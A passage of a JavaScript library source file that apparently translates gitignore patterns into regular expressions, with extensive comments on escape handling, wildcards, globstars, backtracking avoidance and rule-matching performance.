//   left to do it, and until then the pending wildcard travels as this marker.
//   That is what keeps it apart from a user-escaped literal `\*`: the unescape
//   steps collapse the escaped one to the exact `\*` a wildcard would leave
//   behind, so by the time `_make` runs the two are otherwise the same string
//   and a literal star gets wrongly rewritten into a wildcard. The marker is a
//   private-use character, and `extractBrackets` keeps one that came out of the
//   pattern apart from it, so the only marker `_make` ever turns back into a
//   real wildcard is the one this chain put there itself.
const TRAILING_WILDCARD = '\uE000'

// A trailing "/**" is deferred the same way, because `checkRegex` has to tell
//   it apart from a trailing "/*" (see `checkSourceOf`). For `.ignores()` it
//   still never matches the folder itself (#21).
const TRAILING_DOUBLESTAR = '\uE001'

// The three characters above mean something to the chain that builds the
//   source rather than to the path, so one that came out of the pattern is
//   held aside like a bracket expression instead of going straight out. Being
//   held is what makes it safe: the restore runs after the step that anchors
//   the source, so the character comes back in the middle of the source and
//   not at its end, which is the one place `_make` and `checkSourceOf` look
//   for a marker. Without it a pattern's own character lands where a pending
//   marker sits, and `_make` turns it into a real trailing wildcard.
//
// It is held as a one-member class rather than bare, in both of the branches
//   a reserved character can reach, so that the property can be
//   read off this function alone -- a reserved character never goes out on
//   its own -- rather than depending on where in the chain the restore
//   happens to run. In the expression built here `[x]` matches exactly what
//   `x` matches, none of the three being special to a regular expression or
//   inside a class, so no test can tell the two apart: the class is insurance,
//   and the paragraph above is the reason it is not needed.
const isReserved = char =>
  char === PLACEHOLDER
  || char === TRAILING_WILDCARD
  || char === TRAILING_DOUBLESTAR

// Replace every bracket expression with a placeholder the replacers below
//   leave alone, and translate it separately.
const extractBrackets = pattern => {
  const sources = []
  const hold = source =>
    `${PLACEHOLDER}${sources.push(source) - 1}${PLACEHOLDER}`

  const {length} = pattern
  let out = EMPTY
  let index = 0

  while (index < length) {
    const char = pattern[index]

    if (char === ESCAPE) {
      // > Put a backslash ("\") in front of ... a character to make it literal.
      //                                            (gitignore(5) -> fnmatch(3))
      // A backslash quotes the next character, whatever it is, so `\d` is a
      //   literal `d`, not the regex digit class, and `\?` is a literal `?`,
      //   not a wildcard. Held aside as its literal here, the escape never
      //   reaches the replacers below, which would otherwise let `\d`, `\b`,
      //   `\1`, `\/` keep their regular-expression meaning, and would turn a
      //   `\?` into `[^\/]`.
      //
      // Three escapes are still left for the chain: `\*` (a literal star,
      //   told apart from a wildcard by `TRAILING_WILDCARD` and the wildcard
      //   replacers), `\[` (a literal bracket, the one `[` the bracket
      //   replacer still expects), and `\ ` (a quoted space, which one pass
      //   below rewrites in bulk -- holding each one aside instead costs more
      //   on a pattern built out of them).
      //
      // A quoted backslash is not among them. The chain doubles every
      //   backslash, then takes the doubling back out again, and a quoted one
      //   standing next to a character the chain also escapes left the two
      //   counts sharing a run, so one of the escapes was lost. Held here as
      //   the literal it means, it never joins that run.
      const escaped = pattern[index + 1]

      if (escaped === SLASH && index + 2 === length) {
        // Git removes a final directory slash before matching. An escape
        //   without a character after that removal makes the pattern invalid.
        out += hold(NEVER_MATCH)
      } else if (
        escaped === '*'
        || escaped === '['
        || escaped === SPACE
      ) {
        out += pattern.slice(index, index + 2)
      } else {
        out += hold(
          REGEX_LITERAL_SPECIAL.test(escaped)
            ? ESCAPE + escaped
            : isReserved(escaped)
              ? `[${escaped}]`
              : escaped
        )
      }

      index += 2
    } else if (isReserved(char)) {
      out += hold(`[${char}]`)
      index ++
    } else if (char === '[') {
      const scanned = scanBracket(pattern, index)

      if (scanned === null) {
        // git gives up on the whole pattern (`WM_ABORT_ALL`), so whatever
        //   follows can not make it match either.
        out += hold(NEVER_MATCH)
        index = length
      } else {
        out += hold(scanned.source)
        index = scanned.end + 1
      }
    } else {
      out += char
      index ++
    }
  }

  return {
    source: out,
    sources
  }
}

// A step of the chain below is normally a `[matcher, replacer]` pair handed
//   to `String.replace`. `DIRECT` marks the ones that are plain string work
//   instead, and take `(source, pattern)`.
//
// Anchoring the two ends is exactly that -- a test of one character and a
//   concatenation -- and putting it through the regular expression engine
//   cost a third of this chain for nothing: 167ns where 10ns does the same
//   job. The two are still steps in the same list, in the same places,
//   because their position in the order is part of what they mean.
const DIRECT = null

// A separator at the beginning or in the middle of a pattern, as opposed to
//   one at the very end.
const REGEX_INNER_SLASH = /\/(?!$)/
const WILDCARD = '[^\\/]*'

// > If the pattern ends with a slash,
// > it is removed for the purpose of the following description,
// > but it would only find a match with a directory.
// > In other words, foo/ will match a directory foo and paths underneath it,
// > but will not match a regular file or a symbolic link foo
// >  (this is consistent with the way how pathspec works in general in Git).
// '`foo/`' will not match regular file '`foo`' or symbolic link '`foo`'
// -> ignore-rules will not deal with it, because it costs extra `fs.stat` call
//      you could use option `mark: true` with `glob`

// '`foo/`' should not continue with the '`..`'
// The chain that turns one gitignore pattern into a regular expression
//   source, in order. A step is either
//
//   [matcher, replacer]            handed to `String.replace`
//   [matcher, replacer, required]  the same, but skipped outright unless
//                                    `required` appears in the string, which
//                                    the matcher cannot match without
//   [DIRECT, transform]            plain string work, taking (source, pattern)
//
// The `required` character is only ever a shortcut: finding it does not mean
//   the matcher will match, and not finding it means it cannot. It is there
//   because scanning for one character costs a fraction of running a matcher
//   that then finds nothing -- for the wildcard step, whose `[^\\]+`
//   backtracks its way through the whole string before giving up, 11ns
//   against 400ns.
const REPLACERS = [

  // Replace (\ ) with ' '
  // Only a space: an escaped tab or other whitespace is already a literal by
  //   the time it reaches here, and a bare tab must be left as one, not turned
  //   into a space.
  // (\ ) -> ' '
  // (\\ ) -> '\\ '
  // (\\\ ) -> '\\ '
  [
    // A run of backslashes is taken whole, from its first one, so no match
    //   ever starts again inside it -- `(\\+?) ` did, which made a long run
    //   quadratic.
    /(\\+)( ?)/g,
    (_, run, space) => space
      ? run.slice(0, run.length - run.length % 2) + SPACE
      : run,
    ESCAPE + SPACE
  ],

  // git's wildmatch() reads a run of two or more asterisks as one globstar
  //   whenever the run fills a path segment: it starts the pattern or follows
  //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
  //   already `**`; a longer one is folded into `**` here, so the steps
  //   below only ever have to know `**`.
  // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
  // git also takes a run beside a literal prefix (`a***/b`) or beside an
  //   escaped slash (`***\/b`) as a globstar, and this does not; the README
  //   lists both, under "A run of asterisks".
  [
    /(^|\/)\*{3,}(?=\/|$)/g,
    (_, start) => `${start}**`,
    '*'
  ],

  // Escape metacharacters
  // which is written down by users but means special for regular expressions.

  // > There are 12 characters with special meanings:
  // > - the backslash \,
  // > - the caret ^,
  // > - the dollar sign $,
  // > - the period or dot .,
  // > - the vertical bar or pipe symbol |,
  // > - the question mark ?,
  // > - the asterisk or star *,
  // > - the plus sign +,
  // > - the opening parenthesis (,
  // > - the closing parenthesis ),
  // > - and the opening square bracket [,
  // > - the opening curly brace {,
  // > These special characters are often called "metacharacters".
  [
    /[\\$.|*+(){^]/g,
    match => `\\${match}`
  ],

  [
    // > a question mark (?) matches a single character
    /(?!\\)\?/g,
    () => '[^/]',
    '?'
  ],

  // leading slash
  [

    // > A leading slash matches the beginning of the pathname.
    // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
    // A leading slash matches the beginning of the pathname
    /^\//,
    () => '^',
    SLASH
  ],

  // replace special metacharacter slash after the leading slash
  [
    /\//g,
    () => '\\/',
    SLASH
  ],

  [
    // > A leading "**" followed by a slash means match in all directories.
    // > For example, "**/foo" matches file or directory "foo" anywhere,
    // > the same as pattern "foo".
    // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
    // >   under directory "foo".
    // Notice that the '*'s have been replaced as '\\*'
    /^\^*(?:\\\*\\\*\\\/)+/,

    // '**/foo' <-> 'foo'
    () => '(?:^|\\/)',
    '*'
  ],

  // starting
  [
    // there will be no leading '/'
    //   (which has been replaced by section "leading slash")
    // If starts with '**', adding a '^' to the regular expression also works
    DIRECT,
    (source, pattern) => {
      // Nothing to anchor to, or already anchored (`^` or `(?:^|\/)`)
      if (!source || source[0] === '^' || source[0] === '(') {
        return source
      }

      // If has a slash `/` at the beginning or middle
      const anchor = !REGEX_INNER_SLASH.test(pattern)
        // > Prior to 2.22.1
        // > If the pattern does not contain a slash /,
        // >   Git treats it as a shell glob pattern
        // Actually, if there is only a trailing slash,
        //   git also treats it as a shell glob pattern

        // After 2.22.1 (compatible but clearer)
        // > If there is a separator at the beginning or middle (or both)
        // > of the pattern, then the pattern is relative to the directory
        // > level of the particular .gitignore file itself.
        // > Otherwise the pattern may also match at any level below
        // > the .gitignore level.
        ? '(?:^|\\/)'

        // > Otherwise, Git treats the pattern as a shell glob suitable for
        // >   consumption by fnmatch(3)
        : '^'

      return anchor + source
    }
  ],

  // two globstars
  [
    // Use lookahead assertions so that we could match more than one `'/**'`
    /\\\/\\\*\\\*(?=\\\/|$)/g,

    // Zero, one or several directories
    // should not use '*', or it will be replaced by the next replacer

    // Check if it is not the last `'/**'`
    (_, index, str) => index + 6 < str.length

      // case: /**/ at the end of the pattern, i.e. a trailing `'/**/'`
      // > A trailing `"/**/"` (a trailing `"/**"` restricted to directories)
      // >   matches everything inside, but it should not match the current
      // >   folder itself, so it requires at least one directory segment.
      // 'a/**/' matches 'a/b/', 'a/x/y/' but not 'a/'
      ? str.slice(index + 6) === '\\/'
        ? '(?:\\/[^\\/]+)+'

        // case: /**/
        // > A slash followed by two consecutive asterisks then a slash matches
        // >   zero or more directories.
        // > For example, "a/**/b" matches "a/b", "a/x/b", "a/x/y/b" and so on.
        // '/**/'
        : '(?:\\/[^\\/]+)*'

      // case: /**
      // > A trailing `"/**"` matches everything inside.

      // #21: everything inside but it should not include the current folder,
      //   resolved by `_make`
      : `\\/${TRAILING_DOUBLESTAR}`,
    '*'
  ],

  // normal intermediate wildcards
  [
    // Never replace escaped '*'
    // ignore rule '\*' will match the path '*'

    // 'abc.*/' -> go
    // 'abc.*'  -> skip this rule,
    //    coz trailing single wildcard will be handed by [trailing wildcard]
    /(^|[^\\])(?:\\\*)+(?!$)/g,

    // '*.js' matches '.js'
    // '*.js' doesn't match 'abc'
    // 1. An asterisk "*" matches anything except a slash.
    // 2. Other consecutive asterisks are considered regular asterisks
    //    and collapse into one non-slash wildcard run.
    (_, p1) => p1 + WILDCARD,
    '*'
  ],

  // trailing wildcard, held apart from a literal star
  [
    // The step above leaves a trailing `*` alone, so a single `\*` is all that
    //   can be left at the end here, and what stands in front of it says which
    //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
    //   nothing before it; a literal arrives as the user's own escape, which
    //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
    //   There is no third case: every backslash still reaching the chain is
    //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
    //   own character, so a longer run can never form. This runs while the
    //   two are still distinct, before the unescape steps below collapse the
    //   literal onto the very `\*` a wildcard leaves behind.
    /(^|[^\\])((?:\\\\)*)\\\*$/,

    (match, p1, p2) =>
      p2 === EMPTY
        // A real wildcard: carry it to `_make` as the marker, so the unescape
        //   steps and the trailing-wildcard rewrite can never mistake it for a
        //   literal `\*` (nor the reverse).
        ? p1 + TRAILING_WILDCARD
        // A literal star: leave it exactly as it stands for the unescape steps.
        : match,
    '*'
  ],

  [
    // unescape, revert step 3 except for back slash
    // For example, if a user escape a '\\*',
    // after step 3, the result will be '\\\\\\*'
    /\\\\\\(?=[$.|*+(){^])/g,
    () => ESCAPE,
    ESCAPE + ESCAPE
  ],

  [
    // '\\\\' -> '\\'
    /\\\\/g,
    () => ESCAPE,
    ESCAPE + ESCAPE
  ],

  [
    // Every real bracket expression -- POSIX classes included -- has already
    //   been held aside by `extractBrackets`, so the only `[` left in the
    //   pattern is an escaped, literal one.

    // A backslash could only stand at the end of the range if it quoted the
    //   `]`, and `\]` is held aside long before this.
    /\\\[([^\]/]*?)($|\])/g,

    // '\\[bar]' -> '\\\\[bar]'
    (match, range, close) => `\\[${range}${close}`,
    '['
  ],

  // ending
  [
    // 'js' will not match 'js.'
    // 'ab' will not match 'abc'
    DIRECT,

    // WTF!
    // https://git-scm.com/docs/gitignore
    // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
    // which re-fixes #24, #38

    // > If there is a separator at the end of the pattern then the pattern
    // > will only match directories, otherwise the pattern can match both
    // > files and directories.

    // 'js*' will not match 'a.js'
    // 'js/' will not match 'a.js'
    // 'js' will match 'a.js' and 'a.js/'
    source => {
      const last = source[source.length - 1]

      // The pattern is empty, or ends in a pending marker `_make` owns --
      //   the trailing wildcard, or a trailing "/**". A trailing `*` that is
      //   not the marker is a literal star, which anchors like any other
      //   final character.
      if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
        return source
      }

      return last === SLASH
        // foo/ will not match 'foo'
        ? `${source}$`
        // foo matches 'foo' and 'foo/'
        : `${source}(?=$|\\/$)`
    }
  ]
]

const REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/
const MODE_IGNORE = 'regex'
const MODE_CHECK_IGNORE = 'checkRegex'
const UNDERSCORE = '_'

const replaceTrailingWildcard = (_, p1) => {
  const prefix = p1
    // '\^':
    // '/*' does not match EMPTY
    // '/*' does not match everything

    // '\\\/':
    // 'abc/*' does not match 'abc/'
    ? `${p1}[^/]+`

    // 'a*' matches 'a'
    // 'a*' matches 'aa'
    : '[^/]*'

  return `${prefix}(?=$|\\/$)`
}

const REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/

// 'abc/**' matches everything under 'abc', but not 'abc/' itself (#21):
//   requiring one arbitrary character (line terminators included, #176)
//   after 'abc/' is necessary and sufficient for `.test(path)`.
const replaceTrailingDoublestar = () => '[\\s\\S]'

// The fixed piece between the wildcard at `at` and the next wildcard of the
//   run: the tokens that separate them, joined as they appear in the source.
//   A run never holds two wildcards in a row, so there is always at least one
//   token.
const separatorAfter = (run, at) => {
  let separator = EMPTY

  for (let index = at + 1; index < run.length && !run[index].wildcard; index ++) {
    separator += run[index].single
  }

  return separator
}

// Where a run of non-slash wildcards is split by fixed pieces --
//   `[^/]*ab[^/]*cd...` -- the engine has many equivalent ways to lay the
//   input across the wildcards, and on input that does not match it works
//   through all of them, so the time grows with the number of wildcards
//   rather than the length of the path. Every wildcard but the last in such a
//   run can be pinned to stop where the piece after it begins, which leaves
//   one way to lay out the input and no rewinding, without changing which
//   paths match: the fixed pieces still bound the count, and the last
//   wildcard still absorbs the rest.
//
// A wildcard is pinned to the whole piece, never to the piece's first
//   character. The pin leaves no way back, so a wildcard that stopped at that
//   first character would hand over wherever the character happens to turn
//   up, including the places the rest of the piece cannot follow -- which is
//   how `f*o/*/*` came to miss `foo/b/c`, the first `o` of `foo` not being
//   the one the `o/` after it needs. Every token of a piece matches exactly
//   one character, so the first place the whole piece fits is the leftmost
//   place it can sit, and whatever is left over goes to the wildcards that
//   follow.
//
// The source is read one token at a time -- a wildcard, a single-character
//   piece (a literal, an escape, a class), or a parenthesised group or anchor
//   that ends the run -- so only a genuine wildcard is touched.
const pinWildcards = source => {
  if (source.indexOf(WILDCARD) < 0) {
    return source
  }

  const tokens = []
  const {length} = source
  let index = 0

  while (index < length) {
    const char = source[index]

    if (source.startsWith(WILDCARD, index)) {
      tokens.push({wildcard: true})
      index += WILDCARD.length
    } else if (char === '[') {
      let end = index + 1

      if (source[end] === '^') {
        end ++
      }

      if (source[end] === ']') {
        end ++
      }

      while (end < length && source[end] !== ']') {
        end += source[end] === ESCAPE
          ? 2
          : 1
      }

      end ++
      tokens.push({single: source.slice(index, end)})
      index = end
    } else if (char === ESCAPE) {
      tokens.push({single: source.slice(index, index + 2)})
      index += 2
    } else if (char === '(') {
      let depth = 0
      let end = index

      do {
        if (source[end] === ESCAPE) {
          end ++
        } else if (source[end] === '(') {
          depth ++
        } else if (source[end] === ')') {
          depth --
        }

        end ++
      } while (end < length && depth > 0)

      if ('*+?'.indexOf(source[end]) >= 0) {
        end ++
      }

      tokens.push({boundary: source.slice(index, end)})
      index = end
    } else if (char === '^' || char === '$') {
      tokens.push({boundary: char})
      index ++
    } else {
      tokens.push({single: char})
      index ++
    }
  }

  let out = EMPTY
  let run = []

  const flush = () => {
    let lastWildcard

    run.forEach((token, at) => {
      if (token.wildcard) {
        lastWildcard = at
      }
    })

    run.forEach((token, at) => {
      if (!token.wildcard) {
        out += token.single
        return
      }

      // Every wildcard but the last is pinned to the whole piece that
      //   follows it, for the reason set out above this function. The last
      //   one stays as it is and takes up the rest.
      out += at === lastWildcard
        ? WILDCARD
        : `(?:(?!${separatorAfter(run, at)})[^\\/])*`
    })

    run = []
  }

  tokens.forEach(token => {
    if (token.boundary === undefined) {
      run.push(token)
      return
    }

    flush()
    out += token.boundary
  })

  flush()

  return out
}

// @param {pattern}
const makeRegexPrefix = pattern => {
  // `/**` matches every path, as `**` does. The translation below only finds
  //   a globstar beside a slash it keeps, and the leading one is turned into
  //   an anchor, so `/**` would come out as `/*` and match one level only.
  //   Here rather than in `createRule`, so that `checkSourceOf`, which
  //   compiles `/**/` again without its trailing slash, gets it too.
  if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
    pattern = '**'
  }

  const {source, sources} = extractBrackets(pattern)

  const replaced = REPLACERS.reduce(
    // A pass whose matcher finds nothing hands back the very string it was
    //   given, so asking first costs a search and saves a rewrite. Ten of the
    //   fifteen passes never fire for a typical .gitignore line, and between
    //   them they were 45% of this chain.
    (prev, [matcher, replacer, required]) => {
      if (matcher === DIRECT) {
        return replacer(prev, pattern)
      }

      if (required !== UNDEFINED && prev.indexOf(required) < 0) {
        return prev
      }

      // A pass whose matcher finds nothing hands back the very string it was
      //   given, so asking first costs a search and saves a rewrite.
      return matcher.test(prev)
        ? prev.replace(matcher, replacer.bind(pattern))
        : prev
    },
    source
  )

  // Most patterns hold no bracket expression at all, and then there is
  //   nothing to put back.
  return sources.length
    ? replaced.replace(
      REGEX_RESTORE_PLACEHOLDER,
      (match, index) => sources[index]
    )
    : replaced
}

// `checkRegex` tests a path with a trailing slash, 'abc/', the way
//   `git check-ignore` matches that literal string once the directory itself
//   is known not to be excluded (see `checkIgnore`): a trailing '/' of the
//   pattern is dropped, a basename pattern sees an empty basename, and only a
//   pattern whose last segment is a pending wildcard can match what is left
//   after the final slash -- 'abc/*' and 'abc/**' match 'abc/', and 'abc/**'
//   also matches 'abc/d/' (#77, #169).
const checkSourceOf = (body, prefix) => {
  if (body[body.length - 1] === SLASH) {
    prefix = makeRegexPrefix(body.slice(0, - 1))
  }

  const head = prefix.slice(0, - 1)
  const last = prefix[prefix.length - 1]

  return last === TRAILING_WILDCARD
    ? `${head}$`
    : last === TRAILING_DOUBLESTAR
      ? head
      : NEVER_MATCH
}

// A trailing slash does not stop a pattern being basename-only: it restricts
//   the match to a directory, it does not let the pattern reach across one.
//   Everything else a pattern can hold -- a wildcard, a character class, an
//   escape -- stays inside a single path segment too, so a pattern with no
//   separator in it can only ever describe the last one.
const matchesBasename = body => {
  const index = body.indexOf(SLASH)

  return index < 0 || index === body.length - 1
}

// The last segment of a path, keeping a trailing slash, because a pattern that
//   ends in one matches only a directory.
// 'a/b/c.js' -> 'c.js';  'a/b/' -> 'b/';  'c.js' -> 'c.js' (no copy made)
const basenameOf = path => {
  const end = path.length - 1

  const index = path.lastIndexOf(
    SLASH,
    path[end] === SLASH
      ? end - 1
      : end
  )

  return index < 0
    ? path
    : path.slice(index + 1)
}

// The parent directory of a path, with its trailing separator, or EMPTY when
//   the path has none.
// 'a/b/c' -> 'a/b/';  'a/b/' -> 'a/';  'a' -> EMPTY;  'a/' -> EMPTY
//
// A path holding an empty segment has to be taken apart, because its
//   ancestors are not prefixes of it: the parent of 'a//b' is 'a/', not
//   'a//', and the parent of '/a/' is nothing at all. Both shapes reach here
//   -- 'a//b' is accepted outright, and `checkIgnore` does not put the path
//   it is given through the relative-path check.
//
// Every other path is a prefix of itself, and cutting one costs a fraction of
//   splitting it into an array and joining that back at every level: 73ns
//   against 207ns.
const parentOf = path => {
  if (
    path.charCodeAt(0) === SLASH_CODE
    || path.indexOf(DOUBLE_SLASH) >= 0
  ) {
    const slices = path.split(SLASH).filter(Boolean)

    slices.pop()

    return slices.length
      ? slices.join(SLASH) + SLASH
      : EMPTY
  }

  const end = path.length - 1

  // Look back from before a trailing separator, since that one belongs to the
  //   path itself.
  //
  // A negative place to start would be a trap here: `lastIndexOf` clamps one
  //   to 0 and searches there rather than reporting no match, so '/' would
  //   come back as its own parent and the walk would never end. It cannot
  //   happen -- that is the only path short enough to produce one, and the
  //   test above has already sent it the other way.
  const cut = path.lastIndexOf(
    SLASH,
    path.charCodeAt(end) === SLASH_CODE
      ? end - 1
      : end
  )

  return cut < 0
    ? EMPTY
    : path.slice(0, cut + 1)
}

const isString = subject => typeof subject === 'string'

// Blank lines, comments and trailing lone backslashes are told by
//   `createRule`, once the pattern is normalized.
const checkPattern = pattern => pattern
  && isString(pattern)

// Git drops one CR before each LF, and one at the end of a final line that
//   has no LF after it.
const splitPattern = pattern => (
  pattern[pattern.length - 1] === '\r'
    ? pattern.slice(0, - 1)
    : pattern
)
.split(REGEX_SPLITALL_CRLF)
.filter(Boolean)

class IgnoreRule {
  constructor (
    pattern,
    mark,
    body,
    ignoreCase,
    negative,
    prefix
  ) {
    this.pattern = pattern
    this.mark = mark
    this.negative = negative

    define(this, 'body', body)
    define(this, 'ignoreCase', ignoreCase)
    define(this, 'regexPrefix', prefix)
  }

  // Worked out on first use and kept behind an own property, the way `regex`
  //   caches itself in `_regex`. Deciding it in the constructor instead would
  //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
  //   every compile -- including the compiles of rules that are never matched
  //   against anything.
  get _basenameOnly () {
    return define(this, '_basenameOnly', matchesBasename(this.body))
  }

  get regex () {
    const key = UNDERSCORE + MODE_IGNORE

    if (this[key]) {
      return this[key]
    }

    return this._make(MODE_IGNORE, key)
  }

  get checkRegex () {
    const key = UNDERSCORE + MODE_CHECK_IGNORE

    if (this[key]) {
      return this[key]
    }

    return this._make(MODE_CHECK_IGNORE, key)
  }

  _make (mode, key) {
    const str = pinWildcards(
      mode === MODE_IGNORE
        ? this.regexPrefix
        .replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard)
        .replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar)
        : checkSourceOf(this.body, this.regexPrefix)
    )

    const regex = this.ignoreCase
      ? new RegExp(str, 'i')
      : new RegExp(str)

    return define(this, key, regex)
  }
}

const hasTrailingBackslash = str => {
  let count = 0

  while (str[str.length - count - 1] === ESCAPE) {
    count ++
  }

  return count % 2 === 1
}

// Read a line the way git does: when `stripLineEnd` is set (an unsplit array
//   or object pattern), drop any trailing blank lines along with the LF
//   before each and at most one CR at the end of the line; then trim trailing
//   spaces in the same backward pass. Git trims spaces only, and a space
//   escaped by an odd run of backslashes stays, unescaped, as the last one.
// Scanned from the end: a regular expression can only try each start in
//   turn, which is quadratic over a long run of spaces or backslashes.
// 'a  ' -> 'a';  'a\ ' -> 'a ';  'a\\ ' -> 'a\\';  'a\t' -> 'a\t'
// 'a\r\n' -> 'a';  'a\r\r' -> 'a\r';  'a\n\r' -> 'a'
const trimEnd = (body, stripLineEnd) => {
  let lineEnd = body.length
  let end

  for (;;) {
    if (stripLineEnd && body[lineEnd - 1] === '\r') {
      lineEnd --
    }

    end = lineEnd

    while (body[end - 1] === SPACE) {
      end --
    }

    if (!stripLineEnd || body[end - 1] !== '\n') {
      break
    }

    lineEnd = end - 1
  }

  if (end === lineEnd) {
    return body.slice(0, lineEnd)
  }

  let backslashes = 0

  while (body[end - backslashes - 1] === ESCAPE) {
    backslashes ++
  }

  return backslashes % 2
    ? body.slice(0, end - 1) + SPACE
    : body.slice(0, end)
}

const createRule = (
  pattern,
  mark,
  ignoreCase,
  stripLineEnd,
  stripBOM
) => {
  // Git drops a BOM before it reads the first line, so before anything else.
  let body = stripBOM && pattern[0] === BOM
    ? pattern.slice(1)
    : pattern

  // > A line starting with # serves as a comment.
  if (body[0] === '#') {
    return
  }

  let negative = false

  // > An optional prefix "!" which negates the pattern;
  if (body[0] === '!') {
    negative = true
    body = body.slice(1)
  }

  // Normalize the body before checking which slashes anchor the pattern.
  //   Otherwise `bar/ ` is mistaken for a pattern containing an inner slash.
  //   A line from `splitPattern` has already lost its line ending, so only a
  //   trailing space remains to trim there.
  const last = body[body.length - 1]

  if (
    last === SPACE
    || stripLineEnd && (last === '\r' || last === '\n')
  ) {
    body = trimEnd(body, stripLineEnd)
  }

  // > A blank line matches no files, so it can serve as a separator for
  // >   readability.
  // Nor does a lone "!", a pattern ending on an unpaired backslash, or
  //   anything else left empty here: an empty pattern would compile to a
  //   regex matching every path.
  if (!body || hasTrailingBackslash(body)) {
    return
  }

  body = body
  // > Put a backslash ("\") in front of the first "!" for patterns that
  // >   begin with a literal "!", for example, `"\!important!.txt"`.
  .replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, '!')
  // > Put a backslash ("\") in front of the first hash for patterns that
  // >   begin with a hash.
  .replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, '#')

  const regexPrefix = makeRegexPrefix(body)

  return new IgnoreRule(
    pattern,
    mark,
    body,
    ignoreCase,
    negative,
    regexPrefix
  )
}

class RuleManager {
  constructor (ignoreCase) {
    this._ignoreCase = ignoreCase
    this._rules = []

    // How many of the rules git would tag `EXC_FLAG_NODIR`.
    //
    // The scan uses it to decide, once for the whole set, whether handing
    //   those rules the basename is worth what it costs the others. The
    //   shortcut saves a full-path scan on every rule it applies to and costs
    //   a check on every rule it does not, so a set where almost nothing is
    //   basename-only comes out behind -- a 955 pattern set with 44 of them
    //   measured 19% slower with the shortcut always on.
    //
    // Deciding this by measurement rather than by meaning is safe: a
    //   basename-only pattern gives the very same answer against the whole
    //   path, it just takes longer to say so. The choice can only change how
    //   fast the scan runs, never what it returns.
    this._basenameCount = 0
  }

  _add (pattern, index) {
    // #32
    if (pattern && pattern[KEY_IGNORE]) {
      this._rules = this._rules.concat(pattern._rules._rules)
      this._basenameCount += pattern._rules._basenameCount
      this._added = true
      return
    }

    const isStr = isString(pattern)
    const raw = isStr
      ? pattern
      : pattern.pattern

    const rule = checkPattern(raw)
      && createRule(
        raw,
        isStr ? UNDEFINED : pattern.mark,
        this._ignoreCase,
        !this._split,
        this._stripBOM && !index
      )

    if (rule) {
      this._added = true
      this._rules.push(rule)

      // Deliberately not `rule._basenameOnly`: reading that would materialise
      //   the rule's own copy, and the whole point of leaving it lazy is that
      //   a rule which is compiled and never matched never pays for it.
      if (matchesBasename(rule.body)) {
        this._basenameCount ++
      }
    }
  }

  // @param {Array<string> | string | Ignore} pattern
  add (pattern) {
    this._added = false
    this._split = isString(pattern)
    this._stripBOM = !this._split || pattern[0] === BOM

    makeArray(
      this._split
        ? splitPattern(pattern)
        : pattern
    ).forEach(this._add, this)

    if (this._added) {
      this._literalRules = UNDEFINED
    }

    return this._added
  }

  // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
  //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
  //   are left out once, rather than tested or compiled for every path.
  testLiteral (path) {
    const rules = this._literalRules || (
      this._literalRules = this._rules.filter(
        ({body}) => body[body.length - (
          body[body.length - 1] === SLASH ? 2 : 1
        )] === '*'
      )
    )

    let ignored = false
    let unignored = false
    let matchedRule

    for (let index = rules.length - 1; index >= 0; index --) {
      const rule = rules[index]

      if (rule.checkRegex.test(path)) {
        ignored = !rule.negative
        unignored = rule.negative
        matchedRule = rule.negative
          ? UNDEFINED
          : rule
        break
      }
    }

    const ret = {
      ignored,
      unignored
    }

    if (matchedRule) {
      ret.rule = matchedRule
    }

    return ret
  }

  // Test one single path without recursively checking parent directories
  //
  // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`

  // @returns {TestResult}
  test (path, mode) {
    // Most of a .gitignore is patterns with no slash in them, and running
    //   those against the whole path makes the regular expression engine walk
    //   every directory name on the way to the only segment that could match.
    //   Handing them the basename instead is what git does, and it is where
    //   the time in a directory walk goes: the rule scan was two thirds of it.
    const rules = this._rules
    const {length} = rules

    const shortcut = this._basenameCount * 2 >= length

    const basename = shortcut
      ? basenameOf(path)
      : path

    // The last rule to match decides, as in git, and it is the rule
    //   `git check-ignore -v` reports, so the scan runs from the end and stops
    //   at the first match.
    // A plain loop rather than `forEach`, so that `path`, `basename` and
    //   `shortcut` are locals. As a callback they became closure variables,
    //   and reaching for one of those once per rule cost 10% of a scan over a
    //   large rule set -- more than the shortcut they were there to serve.
    for (let index = length - 1; index >= 0; index --) {
      const rule = rules[index]

      if (rule[mode].test(
        shortcut && rule._basenameOnly
          ? basename
          : path
      )) {
        const {negative} = rule

        const ret = {
          ignored: !negative,
          unignored: negative
        }

        if (!negative) {
          ret.rule = rule
        }

        return ret
      }
    }

    return {
      ignored: false,
      unignored: false
    }
  }
}

const throwError = (message, Ctor) => {
  throw new Ctor(message)
}

const checkPath = (path, originalPath, doThrow) => {
  if (!isString(path)) {
    return doThrow(
      `path must be a string, but got \`${originalPath}\``,
      TypeError
    )
  }

  // We don't know if we should ignore EMPTY, so throw
  if (!path) {
    return doThrow(`path must not be empty`, TypeError)
  }

  // Check if it is a relative path
  if (checkPath.isNotRelative(path)) {
    const r = '`path.relative()`d'
    return doThrow(
      `path should be a ${r} string, but got "${originalPath}"`,
      RangeError
    )
  }

  return true
}

// > pathname should be a `path.relative()`d one
//
// The same thing `REGEX_TEST_INVALID_PATH` says, spelled out: a path is not
//   relative if it begins with a separator, or with `./` or `../`, or is
//   nothing but `.` or `..`. Every match is decided by the first three
//   characters, and this runs on every path handed to the library -- where it
//   was 55% of a cached lookup, more than the cache lookup itself.
